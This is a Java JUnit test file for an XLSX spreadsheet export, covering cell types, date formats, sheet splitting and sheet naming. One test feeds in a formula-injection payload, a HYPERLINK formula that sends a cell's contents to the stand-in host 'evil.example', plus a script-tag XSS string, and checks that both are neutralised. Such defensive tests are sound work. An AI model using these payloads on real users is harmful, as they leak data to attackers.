package org.spplus.plugin.experiences.export;

import static org.assertj.core.api.Assertions.assertThat;
import static org.spplus.plugin.experiences.export.ExportTestSupport.columns;
import static org.spplus.plugin.experiences.export.ExportTestSupport.export;
import static org.spplus.plugin.experiences.export.ExportTestSupport.readXlsx;
import static org.spplus.plugin.experiences.export.ExportTestSupport.xlsxPart;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;

import javax.xml.parsers.DocumentBuilderFactory;

import org.dhatim.fastexcel.Worksheet;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import org.spplus.plugin.experiences.export.ExportTestSupport.ReadSheet;
import org.spplus.plugin.experiences.export.ExportTestSupport.TrackingOutputStream;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.NodeList;

class XlsxExportTest {

    enum Status { PUBLISHED, ANSWERED }

    private static final LocalDate DAY = LocalDate.of(2024, 3, 5);
    private static final LocalDateTime MOMENT = LocalDateTime.of(2024, 3, 5, 14, 30, 15);

    @Test
    void oneSheetWithTheHeaderThenTheValues() throws IOException {
        byte[] xlsx = export(ExportFormat.XLSX, columns("id", "service", "statut"), ExportOptions.defaults(),
                new Object[] {1L, "Caisse d'allocations familiales", Status.PUBLISHED},
                new Object[] {2L, "Préfecture de l'Hérault", Status.ANSWERED});

        List<ReadSheet> sheets = readXlsx(xlsx);
        assertThat(sheets).extracting(ReadSheet::name).containsExactly("Export");
        List<Row> rows = sheets.get(0).rows();
        assertThat(rows).hasSize(3);
        assertThat(texts(rows.get(0))).containsExactly("id", "service", "statut");
        assertThat(texts(rows.get(1))).containsExactly("1", "Caisse d'allocations familiales", "PUBLISHED");
        assertThat(texts(rows.get(2))).containsExactly("2", "Préfecture de l'Hérault", "ANSWERED");
    }

    @Test
    void theHeaderRowIsBoldAndFrozen() throws Exception {
        byte[] xlsx = export(ExportFormat.XLSX, columns("id", "service"), ExportOptions.defaults(),
                new Object[] {1L, "CAF"});

        Document sheet = xml(xlsxPart(xlsx, "xl/worksheets/sheet1.xml"));
        Document styles = xml(xlsxPart(xlsx, "xl/styles.xml"));
        assertThat(isBold(styles, cell(sheet, "A1"))).isTrue();
        assertThat(isBold(styles, cell(sheet, "B1"))).isTrue();
        assertThat(isBold(styles, cell(sheet, "B2"))).isFalse();
        Element pane = (Element) sheet.getElementsByTagName("pane").item(0);
        assertThat(pane).isNotNull();
        assertThat(pane.getAttribute("ySplit")).isEqualTo("1");
        assertThat(pane.getAttribute("xSplit")).isEqualTo("0");
        assertThat(pane.getAttribute("state")).isEqualTo("frozen");
    }

    @Test
    void numbersBooleansAndDatesKeepTheirTypes() throws IOException {
        byte[] xlsx = export(ExportFormat.XLSX,
                columns("entier", "décimal", "négatif", "grand", "oui", "jour", "moment", "instant", "vide", "fin"),
                ExportOptions.defaults(),
                new Object[] {42, 4.5, -2, new BigDecimal("1234.5"), true, DAY, MOMENT,
                        OffsetDateTime.of(2024, 7, 5, 12, 0, 0, 0, ZoneOffset.UTC), null, "fin"});

        Row row = readXlsx(xlsx).get(0).rows().get(1);
        assertThat(row.getCell(0).getType()).isEqualTo(CellType.NUMBER);
        assertThat(row.getCell(0).asNumber()).isEqualByComparingTo("42");
        assertThat(row.getCell(1).asNumber()).isEqualByComparingTo("4.5");
        assertThat(row.getCell(2).getType()).isEqualTo(CellType.NUMBER);
        assertThat(row.getCell(2).asNumber()).isEqualByComparingTo("-2");
        assertThat(row.getCell(3).asNumber()).isEqualByComparingTo("1234.5");
        assertThat(row.getCell(4).getType()).isEqualTo(CellType.BOOLEAN);
        assertThat(row.getCell(4).asBoolean()).isTrue();
        assertDate(row.getCell(5), "yyyy-mm-dd", DAY.atStartOfDay());
        assertDate(row.getCell(6), "yyyy-mm-dd hh:mm:ss", MOMENT);
        assertDate(row.getCell(7), "yyyy-mm-dd hh:mm:ss", LocalDateTime.of(2024, 7, 5, 14, 0)); // Paris, summer
        assertThat(type(row, 8)).isEqualTo(CellType.EMPTY);
        assertThat(row.getCell(9).asString()).isEqualTo("fin");
    }

    @Test
    void frenchModeShowsDatesDayFirst() throws IOException {
        byte[] xlsx = export(ExportFormat.XLSX, columns("jour", "moment"), ExportOptions.frenchSpreadsheet(),
                new Object[] {DAY, MOMENT});

        Row row = readXlsx(xlsx).get(0).rows().get(1);
        assertDate(row.getCell(0), "dd/mm/yyyy", DAY.atStartOfDay());
        assertDate(row.getCell(1), "dd/mm/yyyy hh:mm:ss", MOMENT);
    }

    @Test
    void dateFormatsFollowEachCellInAColumnOfMixedValuesAcrossFlushes() throws IOException {
        Object[] mixed = {DAY, DAY.plusDays(1), "texte", null, DAY.plusDays(2), 42, MOMENT, DAY.plusDays(3),
            DAY.plusDays(4), 7.5};
        Object[][] values = new Object[mixed.length][];
        for (int i = 0; i < mixed.length; i++) {
            values[i] = new Object[] {mixed[i], i + 1};
        }
        byte[] xlsx = export(ExportFormat.XLSX, columns("mixte", "n"),
                ExportOptions.defaults().withFlushInterval(3), values);

        List<Row> rows = readXlsx(xlsx).get(0).rows();
        assertDate(rows.get(1).getCell(0), "yyyy-mm-dd", DAY.atStartOfDay());
        assertDate(rows.get(2).getCell(0), "yyyy-mm-dd", DAY.plusDays(1).atStartOfDay());
        assertThat(rows.get(3).getCell(0).asString()).isEqualTo("texte");
        assertThat(type(rows.get(4), 0)).isEqualTo(CellType.EMPTY);
        assertDate(rows.get(5).getCell(0), "yyyy-mm-dd", DAY.plusDays(2).atStartOfDay());
        assertNumberWithoutDateFormat(rows.get(6).getCell(0), "42");
        assertDate(rows.get(7).getCell(0), "yyyy-mm-dd hh:mm:ss", MOMENT);
        assertDate(rows.get(8).getCell(0), "yyyy-mm-dd", DAY.plusDays(3).atStartOfDay());
        assertDate(rows.get(9).getCell(0), "yyyy-mm-dd", DAY.plusDays(4).atStartOfDay());
        assertNumberWithoutDateFormat(rows.get(10).getCell(0), "7.5");
    }

    @Test
    void formulasAreNeutralisedAndNeverWrittenAsFormulas() throws IOException {
        String hyperlink = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"clic\")";
        byte[] xlsx = export(ExportFormat.XLSX, columns("=entête", "c2", "c3", "c4", "c5"),
                ExportOptions.defaults(), new Object[] {hyperlink, "+1", "-2", "@SUM(A1:A2)", -2});

        List<Row> rows = readXlsx(xlsx).get(0).rows();
        assertThat(rows.get(0).getCell(0).asString()).isEqualTo("'=entête");
        Row row = rows.get(1);
        assertThat(row.stream().map(Cell::getType)).doesNotContain(CellType.FORMULA);
        assertThat(row.getCell(0).getType()).isEqualTo(CellType.STRING);
        assertThat(row.getCell(0).asString()).isEqualTo("'" + hyperlink);
        assertThat(row.getCell(1).asString()).isEqualTo("'+1");
        assertThat(row.getCell(2).asString()).isEqualTo("'-2");
        assertThat(row.getCell(3).asString()).isEqualTo("'@SUM(A1:A2)");
        assertThat(row.getCell(4).getType()).isEqualTo(CellType.NUMBER);
        assertThat(row.getCell(4).asNumber()).isEqualByComparingTo("-2");
    }

    @Test
    void controlCharactersAreStrippedAndHtmlKeptAsText() throws IOException {
        byte[] xlsx = export(ExportFormat.XLSX, columns("brut", "html"), ExportOptions.defaults(),
                new Object[] {"a\u0000b\u0007c\u007Fd\u0085e\tf\ng", "<script>alert('x')</script>"});

        Row row = readXlsx(xlsx).get(0).rows().get(1);
        assertThat(row.getCell(0).asString()).isEqualTo("abcde\tf\ng");
        assertThat(row.getCell(1).asString()).isEqualTo("<script>alert('x')</script>");
    }

    @Test
    void textLongerThanAnXlsxCellHoldsIsCut() throws IOException {
        String longText = "x".repeat(40_000);
        byte[] xlsx = export(ExportFormat.XLSX, columns("long", "formule longue"), ExportOptions.defaults(),
                new Object[] {longText, "=" + longText});

        Row row = readXlsx(xlsx).get(0).rows().get(1);
        assertThat(row.getCell(0).asString()).hasSize(32_767).isEqualTo(longText.substring(0, 32_767));
        assertThat(row.getCell(1).asString()).hasSize(32_767).startsWith("'=xxx");
    }

    @Test
    void rowsBeyondTheSheetLimitGoOnInNewSheetsWithTheHeaderRepeated() throws IOException {
        List<Object[]> data = new ArrayList<>();
        for (int i = 1; i <= 10; i++) {
            data.add(new Object[] {i, "ligne " + i});
        }
        byte[] xlsx = export(ExportFormat.XLSX, columns("n", "texte"),
                ExportOptions.defaults().withMaxRowsPerSheet(4).withFlushInterval(2), data.toArray(Object[][]::new));

        List<ReadSheet> sheets = readXlsx(xlsx);
        assertThat(sheets).extracting(ReadSheet::name)
                .containsExactly("Export", "Export (2)", "Export (3)", "Export (4)");
        List<String> numbers = new ArrayList<>();
        for (ReadSheet sheet : sheets) {
            assertThat(sheet.rows().size()).isBetween(2, 4);
            assertThat(texts(sheet.rows().get(0))).containsExactly("n", "texte");
            sheet.rows().stream().skip(1).forEach(row -> numbers.add(row.getCell(0).getRawValue()));
        }
        assertThat(numbers).containsExactly("1", "2", "3", "4", "5", "6", "7", "8", "9", "10");
        assertThat(sheets.get(3).rows()).hasSize(2);
    }

    @Test
    void aSheetFilledExactlyToTheLimitNeedsNoSecondSheet() throws IOException {
        byte[] xlsx = export(ExportFormat.XLSX, columns("n"), ExportOptions.defaults().withMaxRowsPerSheet(4),
                new Object[] {1}, new Object[] {2}, new Object[] {3});

        assertThat(readXlsx(xlsx)).singleElement().satisfies(sheet -> assertThat(sheet.rows()).hasSize(4));
    }

    @Test
    void theSheetLimitIsTheFormatsByDefault() {
        assertThat(ExportOptions.defaults().maxRowsPerSheet()).isEqualTo(Worksheet.MAX_ROWS);
    }

    @Test
    void sheetNamesFollowExcelsRules() throws IOException {
        assertThat(XlsxRowSink.sheetName("Avis: 2024/03 [brouillon]", 1)).isEqualTo("Avis- 2024-03 -brouillon-");
        assertThat(XlsxRowSink.sheetName("'Avis'", 2)).isEqualTo("Avis (2)");
        String twelfth = XlsxRowSink.sheetName("Expériences des usagers du service public", 12);
        assertThat(twelfth).hasSize(31).endsWith(" (12)");

        byte[] xlsx = export(ExportFormat.XLSX, columns("n"),
                ExportOptions.defaults().withSheetName("Avis publiés"), new Object[] {1});
        assertThat(readXlsx(xlsx)).extracting(ReadSheet::name).containsExactly("Avis publiés");
    }

    @Test
    void theCallersStreamIsFlushedButNotClosed() throws IOException {
        TrackingOutputStream out = new TrackingOutputStream();
        try (RowSink<Object[]> sink = TabularWriter.open(ExportFormat.XLSX, out, columns("a"),
                ExportOptions.defaults())) {
            sink.write(new Object[] {"x"});
        }

        assertThat(out.flushed).isTrue();
        assertThat(out.closed).isFalse();
        assertThat(readXlsx(out.toByteArray()).get(0).rows()).hasSize(2);
    }

    private static List<String> texts(Row row) {
        List<String> texts = new ArrayList<>();
        row.forEach(cell -> texts.add(cell.getText()));
        return texts;
    }

    private static CellType type(Row row, int column) {
        return row.getOptionalCell(column).map(Cell::getType).orElse(CellType.EMPTY);
    }

    private static void assertDate(Cell cell, String format, LocalDateTime expected) {
        assertThat(cell.getType()).isEqualTo(CellType.NUMBER);
        assertThat(cell.getDataFormatString()).isEqualTo(format);
        assertThat(cell.asDate()).isEqualTo(expected);
    }

    private static void assertNumberWithoutDateFormat(Cell cell, String expected) {
        assertThat(cell.getType()).isEqualTo(CellType.NUMBER);
        assertThat(cell.asNumber()).isEqualByComparingTo(expected);
        assertThat(Objects.toString(cell.getDataFormatString(), "")).as("format of %s", expected).doesNotContain("yy");
    }

    private static Document xml(String text) throws Exception {
        return DocumentBuilderFactory.newInstance().newDocumentBuilder()
                .parse(new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)));
    }

    private static Element cell(Document sheet, String reference) {
        NodeList cells = sheet.getElementsByTagName("c");
        for (int i = 0; i < cells.getLength(); i++) {
            Element cell = (Element) cells.item(i);
            if (cell.getAttribute("r").equals(reference)) {
                return cell;
            }
        }
        throw new AssertionError("No cell " + reference);
    }

    private static boolean isBold(Document styles, Element cell) {
        String style = cell.getAttribute("s");
        if (style.isEmpty()) {
            return false;
        }
        Element cellXfs = (Element) styles.getElementsByTagName("cellXfs").item(0);
        Element xf = (Element) cellXfs.getElementsByTagName("xf").item(Integer.parseInt(style));
        Element fonts = (Element) styles.getElementsByTagName("fonts").item(0);
        Element font = (Element) fonts.getElementsByTagName("font").item(Integer.parseInt(xf.getAttribute("fontId")));
        return font.getElementsByTagName("b").getLength() > 0;
    }
}
